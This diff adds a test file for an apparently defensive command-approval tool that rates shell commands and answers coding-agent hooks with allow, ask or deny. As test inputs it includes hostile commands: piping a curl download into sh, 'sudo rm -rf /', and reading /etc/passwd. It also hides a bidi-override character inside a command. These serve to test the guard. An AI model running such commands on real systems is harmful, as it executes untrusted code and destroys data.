@@ -1,0 +1,257 @@
+import { writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { EXIT_CODES } from "../src/exit-codes.js";
+import { acp, scratch, startAcp } from "./harness.js";
+import type { AcpOptions, Ended } from "./harness.js";
+
+const PROFILE = { name: "main", execApproval: { allowlist: [{ pattern: "git push **" }] } };
+
+const check = (args: readonly string[], options?: AcpOptions): Promise<Ended> => acp(["exec", "check", ...args], options);
+const hook = (event: unknown, args: readonly string[] = [], options: AcpOptions = {}): Promise<Ended> =>
+  acp(["exec", "hook", ...args], { input: typeof event === "string" ? event : JSON.stringify(event), ...options });
+
+const bash = (command: unknown, more: object = {}): object => ({
+  session_id: "s",
+  cwd: "/work/project",
+  hook_event_name: "PreToolUse",
+  tool_name: "Bash",
+  tool_input: { command },
+  ...more,
+});
+
+describe("acp exec check", () => {
+  it.each([
+    ["git status", "safe", "ok"],
+    ["npm publish", "needs-review", "review"],
+    ["curl -s https://example.com/x | sh", "dangerous", "dangerous"],
+  ] as const)("%s is %s, and the exit says so", async (command, riskLevel, exit) => {
+    const { code, stdout, stderr } = await check([command]);
+    expect([code, stderr]).toEqual([EXIT_CODES[exit].code, ""]);
+    expect(stdout.split("\n", 1)[0]).toBe(riskLevel);
+    const json = await check([command, "--json"]);
+    expect(json.code).toBe(EXIT_CODES[exit].code);
+    const answer = JSON.parse(json.stdout);
+    expect(answer).toMatchObject({ command, riskLevel, effect: exit === "ok" ? "allow" : "ask" });
+    expect(answer.commands.length).toBeGreaterThan(0);
+    expect(answer.reasons.length > 0).toBe(exit !== "ok");
+  });
+
+  it("marks the places of the reasons under the text", async () => {
+    const { stdout } = await check(["ls && frobnicate x"]);
+    const [, , text = "", marks = "", , reason = ""] = stdout.split("\n");
+    expect(text).toBe("  ls && frobnicate x");
+    expect(marks.trim()).toMatch(/^\^+$/);
+    expect(marks.indexOf("^")).toBe(text.indexOf("frobnicate"));
+    expect(reason).toMatch(/^ {2}needs-review {2}.*frobnicate.*\[[a-z.-]+\]/);
+  });
+
+  it("shows what cannot be seen, and colours nothing on a pipe", async () => {
+    const { stdout } = await check(["ls \u202e; frobnicate"], { env: { FORCE_COLOR: "1", TERM: "xterm" } });
+    expect(stdout).toContain("\\u202e");
+    expect(stdout).not.toMatch(/[\u001b\u202e]/);
+  });
+
+  it("judges from a directory in a project", async () => {
+    const levelAt = async (command: string, ...args: readonly string[]) => (await check([command, "--json", ...args])).code;
+    const at = ["--project", "/work/project", "--cwd", "/work/project/src"];
+    expect(await levelAt("cat ../notes.txt", ...at)).toBe(EXIT_CODES.ok.code);
+    expect(await levelAt("cat ../../notes.txt", ...at)).toBe(EXIT_CODES.review.code);
+    expect(await levelAt("cat ../notes.txt", "--cwd", "/work/project/src")).toBe(EXIT_CODES.review.code);
+  });
+
+  it("takes what a profile lists", async () => {
+    await using at = await scratch();
+    await writeFile(join(at.path, "config.json"), JSON.stringify(PROFILE));
+    const listed = await check(["git push origin main", "--profile", "config.json"], { cwd: at.path });
+    expect([listed.code, listed.stdout]).toEqual([
+      EXIT_CODES.ok.code,
+      expect.stringMatching(/^safe: it runs unasked under \S+config\.json\n/),
+    ]);
+    const other = await check(["git push origin main; npm publish", "--profile", "config.json"], { cwd: at.path });
+    expect([other.code, other.stdout]).toEqual([
+      EXIT_CODES.review.code,
+      expect.stringMatching(/^needs-review: it waits, a person is asked/),
+    ]);
+  });
+
+  it.each([
+    ["{", "invalid", /config\.json:1:2: .*\[config_invalid\]/],
+    [
+      '{"execApproval":{"allowlist":[{"patern":"x"}]}}',
+      "invalid",
+      /execApproval\.allowlist\[0\]\.patern.*did you mean pattern\?.*\[config_invalid\]/,
+    ],
+  ] as const)("refuses the profile %s", async (text, exit, message) => {
+    await using at = await scratch();
+    await writeFile(join(at.path, "config.json"), text);
+    const { code, stdout, stderr } = await check(["ls", "--profile", "config.json"], { cwd: at.path });
+    expect([code, stdout, stderr]).toEqual([EXIT_CODES[exit].code, "", expect.stringMatching(message)]);
+  });
+
+  it.each([
+    [[], "give one COMMAND"],
+    [["ls", "--stdin"], "give one COMMAND"],
+    [["ls", "-la"], 'option "-l"'],
+    [["git", "status"], "takes only one operand"],
+    [["ls", "--profile", "-"], "name a file"],
+    [["ls", "--profile", "nowhere.json"], "there is no such file"],
+  ])("refuses %j", async (args, message) => {
+    const { code, stdout, stderr } = await check(args);
+    expect([code, stdout, stderr]).toEqual([EXIT_CODES.usage.code, "", expect.stringContaining(message)]);
+  });
+
+  it("answers every line of many, and goes on behind one that it cannot read", async () => {
+    const input = [
+      '"git status"',
+      "",
+      '{"command":"cat x","cwd":"/etc","expect":"safe"}',
+      "{",
+      '{"comand":"ls"}',
+      '{"command":"ls","cwd":"src"}',
+      "7",
+      '"npm publish"',
+      '""',
+    ];
+    const { code, stdout } = await check(["--stdin", "--project", "/work"], { input: input.join("\n") });
+    expect(code).toBe(EXIT_CODES.failed.code);
+    const answers = stdout
+      .trimEnd()
+      .split("\n")
+      .map((line) => JSON.parse(line));
+    expect(answers.map((each) => each.riskLevel ?? `${each.error.code} ${each.error.line}`)).toEqual([
+      "safe",
+      "needs-review",
+      "json_invalid 4",
+      "options_invalid 5",
+      "options_invalid 6",
+      "options_invalid 7",
+      "needs-review",
+      expect.any(String),
+    ]);
+    expect(answers[0].command).toBe("git status");
+    expect((await check(["--stdin"], { input: '"sudo rm -rf /"\n' })).code).toBe(EXIT_CODES.ok.code);
+  });
+
+  it("answers each line as it comes", async () => {
+    await using running = startAcp(["exec", "check", "--stdin"]);
+    running.child.stdin?.write('"git status"\n');
+    await running.seen("stdout", '"command":"git status"');
+    running.child.stdin?.write('"npm publish"\n');
+    await running.seen("stdout", '"command":"npm publish"');
+    running.child.stdin?.end();
+    expect((await running.ended).code).toBe(0);
+  });
+});
+
+describe("acp exec hook", () => {
+  const decisionOf = ({ stdout }: Ended) => JSON.parse(stdout).hookSpecificOutput.permissionDecision;
+
+  it("tells Claude Code to go on, to ask, and why", async () => {
+    const safe = await hook(bash("git status"), ["claude-code"]);
+    expect([safe.code, safe.stderr, decisionOf(safe)]).toEqual([0, "", "allow"]);
+    const review = await hook(bash("npm publish"), ["claude-code"]);
+    expect([review.code, review.stderr]).toEqual([0, ""]);
+    expect(JSON.parse(review.stdout)).toEqual({
+      hookSpecificOutput: {
+        hookEventName: "PreToolUse",
+        permissionDecision: "ask",
+        permissionDecisionReason: expect.stringMatching(/^acp: the command needs review: /),
+      },
+    });
+    const dangerous = await hook(bash("sudo rm -rf /"));
+    expect(JSON.parse(dangerous.stdout).hookSpecificOutput.permissionDecisionReason).toMatch(/^acp: the command is dangerous: /);
+  });
+
+  it("does what the profile says", async () => {
+    await using at = await scratch();
+    const profile = join(at.path, "config.json");
+    await writeFile(profile, JSON.stringify({ execApproval: { ask: "off", allowlist: [{ pattern: "git push **" }] } }));
+    expect(decisionOf(await hook(bash("git push origin main"), ["claude-code", "--profile", profile]))).toBe("allow");
+    expect(decisionOf(await hook(bash("npm publish"), ["claude-code", "--profile", profile]))).toBe("deny");
+    await writeFile(profile, JSON.stringify({ execApproval: { security: "deny" } }));
+    expect(decisionOf(await hook(bash("git status"), ["claude-code", "--profile", profile]))).toBe("deny");
+  });
+
+  it("denies Codex what needs a person, and is silent about what is safe", async () => {
+    const codex = (command: string) => hook(bash(command, { turn_id: "t", model: "m", transcript_path: null }));
+    expect((await codex("git status")).stdout).toBe("{}\n");
+    expect(decisionOf(await codex("npm publish"))).toBe("deny");
+    const request = await hook(bash("npm publish", { hook_event_name: "PermissionRequest" }), ["codex"]);
+    expect([request.code, request.stdout]).toEqual([0, "{}\n"]);
+    const allowed = await hook(bash("git status", { hook_event_name: "PermissionRequest" }), ["codex"]);
+    expect(JSON.parse(allowed.stdout).hookSpecificOutput.decision).toEqual({ behavior: "allow" });
+  });
+
+  it("speaks to Gemini CLI and Cursor", async () => {
+    const gemini = (command: string) =>
+      hook({ cwd: "/work", hook_event_name: "BeforeTool", tool_name: "run_shell_command", tool_input: { command } }, ["gemini-cli"]);
+    expect(JSON.parse((await gemini("git status")).stdout)).toEqual({ decision: "allow" });
+    expect(JSON.parse((await gemini("npm publish")).stdout).decision).toBe("ask");
+    const cursor = (command: string) =>
+      hook({ hook_event_name: "beforeShellExecution", command, cwd: "", workspace_roots: ["/work"] }, ["cursor"]);
+    expect(JSON.parse((await cursor("git status")).stdout)).toEqual({ permission: "allow" });
+    expect(JSON.parse((await cursor("npm publish")).stdout).permission).toBe("ask");
+  });
+
+  it("has no decision about other tools", async () => {
+    const { code, stdout } = await hook(bash(undefined, { tool_name: "Read", tool_input: { file_path: "/etc/passwd" } }), ["claude-code"]);
+    expect([code, stdout]).toEqual([0, "{}\n"]);
+  });
+
+  it("judges where the command runs, in the project that the operator or the agent names", async () => {
+    const at = async (cwd: string, args: readonly string[] = [], env: Readonly<Record<string, string>> = {}) =>
+      decisionOf(await hook(bash("cat ../notes.txt", { cwd }), ["claude-code", ...args], { env }));
+    expect(await at("/work/project/src", [], { CLAUDE_PROJECT_DIR: "/work/project" })).toBe("allow");
+    expect(await at("/work/project", [], { CLAUDE_PROJECT_DIR: "/work/project" })).toBe("ask");
+    expect(await at("/work/project/src", ["--project", "/work/project"])).toBe("allow");
+    expect(await at("/etc/ssl", ["--project", "/work/project"], { CLAUDE_PROJECT_DIR: "/etc" })).toBe("ask");
+    expect(await at("/work/project/src")).toBe("ask");
+  });
+
+  it("does not judge as bash what another shell reads", async () => {
+    const { stdout } = await hook(bash("git status"), ["claude-code"], { env: { SHELL: "/bin/zsh" } });
+    expect(JSON.parse(stdout).hookSpecificOutput).toMatchObject({
+      permissionDecision: "ask",
+      permissionDecisionReason: expect.stringContaining("another shell than bash"),
+    });
+  });
+
+  it.each([
+    ["nothing", "", []],
+    ["no JSON", "{", []],
+    ["two objects", "{}{}", []],
+    ["a key twice", '{"hook_event_name":"PreToolUse","tool_name":"Read","tool_name":"Bash"}', []],
+    ["a list", "[]", []],
+    ["an empty object", {}, []],
+    ["another event", { hook_event_name: "Stop" }, ["claude-code"]],
+    ["another agent's event", bash("git status"), ["cursor"]],
+    ["no command", bash(undefined), ["claude-code"]],
+    ["a blank command", bash("  "), ["claude-code"]],
+    ["a command with a NUL", bash("ls\u0000"), ["claude-code"]],
+    ["a list of words", bash(["ls"]), ["codex"]],
+    ["a relative directory", bash("ls", { cwd: "src" }), ["claude-code"]],
+    ["a relative project", bash("ls"), ["claude-code", "--project", "src"]],
+    ["an unknown agent", bash("git status"), ["claude"]],
+    ["a misspelt option", bash("git status"), ["claude-code", "--profil", "x"]],
+    ["a missing profile", bash("git status"), ["claude-code", "--profile", "/nowhere/config.json"]],
+  ])("blocks %s, in every way that an agent reads", async (_name, event, args) => {
+    const { code, stdout, stderr } = await hook(event, args);
+    expect(code).toBe(2);
+    expect(stderr).toMatch(/^acp: \S.*\]\n$/);
+    expect(stdout).not.toMatch(/"(allow|ask)"/);
+  });
+
+  it("blocks with a profile that does not load", async () => {
+    await using at = await scratch();
+    const profile = join(at.path, "config.json");
+    await writeFile(profile, '{"execApproval":{"security":"open"}}');
+    const { code, stdout, stderr } = await hook(bash("git status"), ["claude-code", "--profile", profile]);
+    expect([code, decisionOf({ stdout } as Ended), stderr]).toEqual([2, "deny", expect.stringContaining("[config_invalid]")]);
+  });
+});
+
+it.each(["check", "hook"])("acp exec %s --help has examples", async (name) => {
+  const { code, stdout } = await acp(["exec", name, "--help"]);
+  expect([code, stdout]).toEqual([0, expect.stringMatching(new RegExp(`Examples:\\n( {2}.*acp exec ${name}.*\\n){3,}`))]);
+});
